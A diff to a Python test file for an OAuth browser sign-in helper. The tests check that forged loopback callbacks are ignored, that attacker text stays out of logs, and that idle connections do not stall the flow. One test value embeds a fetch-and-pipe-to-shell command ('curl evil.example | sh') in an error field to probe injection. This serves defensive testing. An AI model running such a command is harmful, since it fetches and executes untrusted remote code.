@@ -14,7 +14,6 @@ from procore_dc import (
     ConfigurationError,
     OAuthError,
     ServiceAccountAuth,
-    StateMismatchError,
     UserLevelAuth,
 )
 from procore_dc.auth.loopback import sign_in_with_browser
@@ -62,7 +61,18 @@ def test_sign_in_with_browser_completes_the_flow() -> None:
         assert auth.store.load() == result["token"]
 
 
-def test_a_forged_callback_fails_the_sign_in() -> None:
+@pytest.mark.parametrize(
+    "forged",
+    [
+        "?code=stolen&state=forged",
+        "?error=access_denied&error_description=Run+curl+evil.example+%7C+sh",
+        "?error=access_denied&state=forged",
+    ],
+    ids=["wrong-state", "error-without-state", "error-with-wrong-state"],
+)
+def test_a_forged_callback_is_ignored_and_the_real_one_completes(
+    forged: str, caplog: pytest.LogCaptureFixture
+) -> None:
     redirect = f"http://127.0.0.1:{free_port()}/callback"
     with FakeProcore(seed=0, rate_limits=None) as sandbox:
         app = sandbox.create_app(redirect_uris=[redirect])
@@ -70,12 +80,61 @@ def test_a_forged_callback_fails_the_sign_in() -> None:
             app.client_id, app.client_secret, redirect, environment=sandbox.environment
         )
         thread, result, urls = run_sign_in(auth)
-        urls.get(timeout=10)
-        page = requests.get(f"{redirect}?code=stolen&state=forged", timeout=10)
+        url = urls.get(timeout=10)
+        with caplog.at_level("WARNING", logger="procore_dc"):
+            bad = requests.get(f"{redirect}{forged}", timeout=10)
+        assert bad.status_code == 400
+        assert thread.is_alive()  # still waiting for the real callback
+        page = requests.get(url, timeout=10)
         thread.join(30)
-        assert "failed" in page.text
-        assert isinstance(result["error"], StateMismatchError)
-        assert auth.store.load() is None
+        assert "Signed in" in page.text
+        assert "error" not in result
+        assert auth.store.load() == result["token"]
+    assert "state is not this flow's" in caplog.text
+    assert "evil.example" not in caplog.text
+
+
+def test_an_idle_preconnect_neither_blocks_the_callback_nor_the_timeout() -> None:
+    redirect = f"http://127.0.0.1:{free_port()}/callback"
+    with FakeProcore(seed=0, rate_limits=None) as sandbox:
+        app = sandbox.create_app(redirect_uris=[redirect])
+        auth = UserLevelAuth(
+            app.client_id, app.client_secret, redirect, environment=sandbox.environment
+        )
+        thread, result, urls = run_sign_in(auth)
+        url = urls.get(timeout=10)
+        port = int(redirect.split(":")[2].split("/")[0])
+        with socket.create_connection(("127.0.0.1", port), timeout=5) as idle:
+            idle.send(b"GET /callback")  # half a request line, then nothing
+            page = requests.get(url, timeout=10)  # the real callback, while idle is open
+            thread.join(30)
+        assert "Signed in" in page.text
+        assert "error" not in result
+
+
+def test_the_timeout_holds_with_an_idle_connection_open() -> None:
+    port = free_port()
+    auth = UserLevelAuth("id", "secret", f"http://127.0.0.1:{port}/callback")
+    result: dict[str, Any] = {}
+
+    def target() -> None:
+        try:
+            sign_in_with_browser(auth, open_browser=False, timeout=1, announce=lambda url: None)
+        except OAuthError as exc:
+            result["error"] = exc
+
+    thread = threading.Thread(target=target)
+    thread.start()
+    for _ in range(100):  # until the receiver listens
+        try:
+            idle = socket.create_connection(("127.0.0.1", port), timeout=5)
+            break
+        except OSError:
+            threading.Event().wait(0.02)
+    with idle:
+        thread.join(4)  # the old receiver stayed blocked on the idle socket
+        assert not thread.is_alive()
+    assert result["error"].error == "timeout"
 
 
 def test_a_non_loopback_redirect_is_refused() -> None:
